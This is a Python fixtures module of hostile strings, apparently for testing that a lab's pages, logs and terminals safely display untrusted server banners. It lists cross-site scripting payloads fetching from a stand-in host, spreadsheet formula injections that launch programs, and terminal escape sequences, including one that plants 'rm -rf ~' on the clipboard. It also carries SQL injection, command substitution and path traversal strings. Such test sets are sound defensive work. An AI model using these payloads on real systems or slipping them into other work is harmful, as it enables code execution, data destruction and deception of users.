"""Texts that attack whoever reads them: one list for the lab's hostile servers, the tests and the browser.

Each is one trick that a stranger's banner, version, donation address, certificate or error message can carry. A script
that runs sets ``top.owned``; whatever is fetched is fetched from ``outside.invalid``, which nobody has. So a test sees
either.
"""

from collections.abc import Mapping
from types import MappingProxyType

SENTINEL = "owned"
"""The global variable that every script of these texts sets on the top window."""

OUTSIDE = "outside.invalid"
"""The host that these texts fetch from or link to."""

HUGE_BYTES = 10_000_000
"""Size of :func:`huge`: longer than any banner has reason to be."""

_RUN = f"top.{SENTINEL}=1"
_URL = f"https://{OUTSIDE}/x"

MARKUP: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script>{_RUN}</script>",
        "script_from_outside": f'<script src="{_URL}.js"></script>',
        "event_handler": f'<img src=x onerror="{_RUN}">',
        "attribute_breakout": f"\" autofocus tabindex=1 onfocus={_RUN} x='",
        "attribute_breakout_single": f"' onmouseover='{_RUN}' x=\"",
        "svg": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
        "math": f'<math><a xlink:href="javascript:{_RUN}">m</a></math>',
        "template": f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
        "mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
        "mutation_math": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
        "end_of_title": f"</title></textarea></pre></style><script>{_RUN}</script>",
        "end_of_comment": f"--><!--><script>{_RUN}</script><![CDATA[",
        "frame": f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
        "object": f'<object data="{_URL}"></object><embed src="{_URL}">',
        "base": f'<base href="https://{OUTSIDE}/">',
        "refresh": f'<meta http-equiv=refresh content="0;url={_URL}">',
        "form": f'<form action="{_URL}"><input name=q autofocus><button>Sign in</button></form>',
        "style": f"<style>@import '{_URL}.css'; body{{display:none}}</style>",
        "style_attribute": f"<p style=\"position:fixed;inset:0;background:url('{_URL}.png')\">covered</p>",
        "link": f'<link rel=stylesheet href="{_URL}.css"><a href="{_URL}" ping="{_URL}">click</a>',
        "javascript_url": f"javascript:{_RUN}//https://electrum.example.org",
        "data_url": f"data:text/html,<script>{_RUN}</script>",
        "css": f"}}body{{background:url({_URL}.png)}}*{{color:transparent}}/*",
        "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
        "template_language": "{{ 7*7 }}{% for x in range(10**9) %}{{ config }}{% endfor %}${7*7}#{7*7}",
        "json_end": f'"}}</script><script>{_RUN}</script>{{"',
        "markdown": f"[click](javascript:{_RUN}) ![p]({_URL}.png) <{_URL}> | `a` **b** # c $x^2$ @someone",
        "console_markup": f"[bold red]x[/] [link={_URL}]y[/link] :skull: [/nothing] \\[a] \\",
    }
)
"""Markup of pages, of Markdown, of terminals' libraries."""

FORMULAE: Mapping[str, str] = MappingProxyType(
    {
        "formula": f'=HYPERLINK("{_URL}?"&A1,"click")',
        "formula_dde": "=cmd|' /C calc'!A0",
        "formula_plus": "+1+1",
        "formula_minus": "-2+3+cmd|' /C calc'!A0",
        "formula_at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "formula_full_width": "\uff1d1+1",
        "formula_full_width_at": "\uff20SUM(A1)",
        "formula_behind_space": "  \u00a0=1+1",
        "formula_behind_tab": "\t=1+1",
        "formula_behind_return": "\r=1+1",
        "formula_behind_quote": '"=1+1',
        "formula_behind_separators": "a;=1+1|=2+2,=3+3\t=4+4\n=5+5",
        "formula_behind_hidden": "\u200b\ufeff=1+1",
    }
)
"""What spreadsheets calculate, or start programs with."""

CONTROLS: Mapping[str, str] = MappingProxyType(
    {
        "nul": "before\x00after",
        "escape_colour": "\x1b[31;5mred\x1b[0m",
        "escape_title": f"\x1b]0;{SENTINEL}\x07",
        "escape_link": f"\x1b]8;;{_URL}\x1b\\click\x1b]8;;\x1b\\",
        "escape_clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
        "escape_erase": "\x1b[2J\x1b[H\x1b[1A\x1b[2K",
        "escape_eight_bit": "\x9b31m\x9d0;owned\x9c",
        "line_forgery": "fine\nCampaign is complete.\r\nobservatory: all is well\x0b\x0c\x1c\x85\u2028\u2029end",
        "overwriting": "dishonest\rhonest\b\b\b\x7f",
        "bidi_override": "\u202etxt.exe\u202c",
        "bidi_isolate": "\u2066\u2067abc\u2069\u200f\u061c",
        "right_to_left": "\u05e9\u05dc\u05d5\u05dd 50002 \u0633\u0644\u0627\u0645",
        "zero_width": "elec\u200btrum\u200d.\ufeffexample\u2060.org\u00ad",
        "blank_letters": "\u3164\u115f\uffa0\u2800\u034f",
        "tags_and_selectors": "A\U000e0041\U000e0042\ufe0f\ufe0f\U000e0100",
        "stacked_marks": "Z" + "\u0337\u0322\u0355\u030d" * 40,
        "leading_mark": "\u0338mark first",
        "surrogate": "lone \ud800 and \udc00",
        "noncharacters": "\ufffe\uffff\U0010ffff\ue000",
        "wide": "\uff37\uff49\uff44\uff45 \u4e16\u754c \U0001f600 \ufdfd",
        "quotes": "'\"`´‘’“”\\\\' OR 1=1; DROP TABLE observations;--",
        "format": "%s%n%x {0} {self.__class__} $(reboot) `reboot` ; reboot",
        "path": "../../../etc/passwd\\..\\con.txt/./..",
    }
)
"""What acts on a terminal, a log or a reader's eye instead of being read."""

TEXTS: Mapping[str, str] = MappingProxyType({**MARKUP, **FORMULAE, **CONTROLS})
"""Every text by name."""


def huge(text: str = f"<b>{_RUN}</b>\u202e=1\x1b[31m ") -> str:
    """Return :data:`HUGE_BYTES` of a text in UTF-8, over and over."""
    size = len(text.encode("utf-8", "surrogatepass"))
    return text * (HUGE_BYTES // size)


def all_in_one() -> str:
    """Return every text, one after the other with a blank between: what one banner can carry."""
    return " ".join(TEXTS.values())
